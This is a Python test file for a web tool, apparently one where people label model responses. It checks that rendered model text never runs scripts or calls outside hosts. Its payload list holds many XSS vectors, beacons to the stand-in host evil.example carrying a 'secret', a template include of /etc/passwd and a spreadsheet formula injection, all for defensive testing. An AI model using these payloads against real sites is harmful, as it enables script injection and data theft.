"""Text that a model wrote is shown and never obeyed: in a real browser nothing of it runs, nothing
is fetched from elsewhere, and the raw view holds the stored text to the character."""

import json
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser

from palate.records import Answer, Group, Message, Prompt, Rating, Response, user_prompt
from palate.store.labelling import answers, lease
from palate.web import text
from palate.web.difference import differences
from palate.web.leaks import names_its_author
from palate.web.visitor import COOKIE
from tests.web.site import PROJECT, served, site

EVIL = "https://evil.example"
RUN = "window.hacked=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<script>{RUN}</script foo>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/beacon.png?q=secret>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}></style></mglyph></table></mtext>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video autoplay onplay={RUN}><source src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>click</a>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    "<form id=question><input name=csrf><button formaction=//evil.example>x</button></form>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/x)'>cover</div>",
    f"<div hx-get='{EVIL}' hx-trigger=load>x</div>",
    "<div hx-post='/projects/1/undo' hx-trigger='load'>x</div>",
    f"<div hx-on:load='{RUN}'>x</div>",
    f"<div data-hx-get='{EVIL}' data-hx-trigger=load>x</div>",
    "<div id=main class=sr name=csrf>clobber</div>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"</pre></div><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"' onmouseover='{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% include '/etc/passwd' %}{{ 7 * 7 }}",
    f"[click](javascript:{RUN})",
    f"[click](  JaVaScRiPt:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"![beacon]({EVIL}/x.png?q=secret)",
    f'![x]({EVIL}/x.png "onerror={RUN}")',
    f"[![x]({EVIL}/y.png)]({EVIL})",
    f'<{EVIL}/"onmouseover={RUN}>',
    f"<javascript:{RUN}>",
    f'[a](https://e\u200b.example/"><script>{RUN}</script>)',
    f"```html\n<script>{RUN}</script>\n```",
    f'~~~"><script>{RUN}</script>\n~~~',
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f"# <img src=x onerror={RUN}>",
    "\u202eevil\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoin\ufeff and \U000e0041\U000e0042 tags",
    "\x1b[31mred\x1b[0m \x08\x08 \x7f",
    "\r\ncarriage\rreturns\r\n",
    "\n\nleading and trailing lines\n\n",
    "nul \x00 and half a pair \ud83d.",
    "a" * 5000 + "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "> " * 300 + "deep",
    "[" * 2000 + "](x)" * 2000,
    "=cmd|' /C calc'!A0",
    "&lt;script&gt; &amp;lt; stays as typed",
]


def as_shown(stored: str) -> str:
    """What HTML can hold of a text: everything but NUL and halves of surrogate pairs."""
    return re.sub("[\x00\ud800-\udfff]", "\ufffd", stored)


@pytest.mark.parametrize("scripts", [True, False])
def test_no_payload_runs_or_calls_out_and_the_text_shown_is_the_text_stored(
    tmp_path: Path, browser: Browser, scripts: bool
) -> None:
    assert len(PAYLOADS) >= 60
    messages = tuple(Message(role="user", content=payload) for payload in PAYLOADS)
    group = Group(
        prompt=Prompt(messages=messages),
        responses=tuple(Response(text=payload, policy=as_shown(payload)) for payload in PAYLOADS),
    )
    guidelines = "\n\n".join(as_shown(p) for p in PAYLOADS if len(p) < 500)
    task = {"kind": "rating", "dimensions": ["<b>x</b>"], "guidelines": guidelines}
    with site(tmp_path, [group], **task) as made, served(made) as live:
        context = browser.new_context(java_script_enabled=scripts)
        secret = live.session(live.person("ann"))
        context.add_cookies([{"name": COOKIE, "value": secret, "url": live.address}])
        page = context.new_page()
        page.set_default_timeout(120_000)
        asked: list[str] = []
        opened: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
        page.goto(f"{live.address}/projects/{PROJECT}/label")
        if scripts:
            page.wait_for_timeout(500)
            assert page.evaluate("window.hacked") is None
            assert page.evaluate("document.forms.question.elements.csrf.value.length") == 64
        assert opened == []
        assert [url for url in asked if not url.startswith(f"{live.address}/")] == []
        assert [url for url in asked if url.endswith("/undo")] == []
        shown = page.locator(".answer .raw pre").all()
        order = [node.text_content() for node in shown]
        assert sorted(order) == sorted(as_shown(payload) for payload in PAYLOADS)
        turns = [node.text_content() for node in page.locator(".turn .raw pre").all()]
        assert turns == [as_shown(payload) for payload in PAYLOADS]
        foreign = "script, iframe, object, embed, style, svg:not(.top svg), img, form, input, base"
        assert page.locator(f":is(.written, .guidelines) :is({foreign})").count() == 0
        links = page.locator(".written a").all()
        assert links
        for link in links:
            assert re.match(r"https?://", link.get_attribute("href") or "http://"), link
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        context.close()


def test_lists_corrections_decisions_and_previews_of_files_obey_nothing(
    tmp_path: Path, browser: Browser
) -> None:
    payloads = [as_shown(payload) for payload in PAYLOADS]
    prompt = Prompt(messages=tuple(Message(role="user", content=payload) for payload in payloads))
    responses = tuple(Response(text=payload) for payload in payloads)
    groups = [Group(prompt=prompt, responses=responses)]
    groups += [
        Group(prompt=user_prompt(payload), responses=(Response(text="a"), Response(text=payload)))
        for payload in payloads
        if payload.strip()
    ]
    file = tmp_path / "rows.jsonl"
    rows = [*groups, *({"prompt": payload, "responses": payload} for payload in payloads)]
    lines = [r.model_dump_json() if isinstance(r, Group) else json.dumps(r) for r in rows]
    file.write_text("\n".join(lines), encoding="utf-8")
    task = {"kind": "rating", "dimensions": ["<b>x</b>"], "reasons": ["<i>y</i>"]}
    with site(tmp_path, groups, **task) as made, served(made) as live:
        owner = live.person("olga", "owner")
        context = browser.new_context()
        context.add_cookies([{"name": COOKIE, "value": live.session(owner), "url": live.address}])
        page = context.new_page()
        page.set_default_timeout(120_000)
        asked: list[str] = []
        opened: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
        with live.desk.writing() as connection:
            id = lease.claim(connection, PROJECT, owner, now=live.desk.clock())
            assert id
            note = "".join(payload for payload in payloads if len(payload) < 100)
            fives = Rating(dimension="<b>x</b>", values=(5,) * len(payloads))
            said = Answer(verdicts=(fives,), seconds=1, reasons=("<i>y</i>",), note=note[:9000])
            answers.submit(connection, PROJECT, owner, id, said, revision=0, now=1)
        here = f"{live.address}/projects/{PROJECT}"
        paths = ("answers", f"answers/{id}", "questions", "disagreements/1", "data")
        for path in (*paths, "questions?text=" + quote("<script>")):
            page.goto(f"{here}/{path}")
            assert page.evaluate("window.hacked") is None, path
        page.goto(f"{here}/data")
        page.set_input_files("input[type=file]", file)
        page.get_by_role("button", name="Look at it").click()
        page.wait_for_url("**/uploads/*")
        assert page.evaluate("window.hacked") is None
        assert page.locator(".alarms li").count() > 0
        assert opened == []
        assert [url for url in asked if not url.startswith(f"{live.address}/")] == []
        assert page.locator("main :is(script, iframe, img, object, svg, style)").count() == 0
        context.close()


ALLOWED = re.compile(
    r"</?(?:p|br|hr|em|strong|s|code|pre|blockquote|ul|ol|li|h4|table|thead|tbody|tr|th|td)>|</a>|"
    r'<ol start="\d+">|<a (?:href="https?://[^"<>]*" )?rel="noopener noreferrer nofollow">|'
    r'<span class="invisible" data-code="U\+[0-9A-F]{4,6}">|</span>|<pre class="text">'
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendering_leaves_only_tags_and_attributes_of_the_list(payload: str) -> None:
    for html in (text.rendered(payload), text.raw(payload), text.inline(payload)):
        assert "<" not in ALLOWED.sub("", html)


@settings(max_examples=100, deadline=None)
@given(st.text(st.sampled_from("<>&\"'[]()!`*_#|\\-= \n\tax:/\u200b\u202e\x00\ud800"), max_size=60))
def test_rendering_is_closed_for_any_text(written: str) -> None:
    assert "<" not in ALLOWED.sub("", text.rendered(written))


def test_markdown_is_rendered() -> None:
    html = text.rendered("# T\n**b** [l](https://a.example)\n\n- x\n\n| a |\n|-|\n| 1 |")
    for piece in ("<h4>T</h4>", "<strong>b</strong>", 'href="https://a.example"', "<li>", "<td>1"):
        assert piece in html


def test_long_texts_are_shown_raw_and_quickly() -> None:
    assert text.rendered("*a* " * 10_000).startswith('<pre class="text">')


def test_differences_join_to_the_texts_and_mark_what_is_in_one_only() -> None:
    first, second = "two cups  of tea, please", "two mugs  of tea!"
    left, right = differences(first, second)
    assert "".join(p.text for p in left) == first
    assert "".join(p.text for p in right) == second
    assert [p.text for p in left if p.own] == ["cups", ", please"]
    assert [p.text for p in right if p.own] == ["mugs", "!"]
    assert differences("a b " * 2000, "c") is None


@pytest.mark.parametrize(
    ("written", "leaks"),
    [
        ("As ChatGPT, I cannot.", True),
        ("I'm Claude, an assistant.", True),
        ("I am an AI developed by OpenAI.", True),
        ("I was trained by Google.", True),
        ("My policy is sft-v2.", True),
        ("Claude Monet painted lilies.", False),
        ("Ask Google for the way.", False),
        ("We are open at seven.", False),
    ],
)
def test_responses_that_name_their_author_are_found(written: str, leaks: bool) -> None:
    assert names_its_author(written, ["sft-v2", "open"]) is leaks
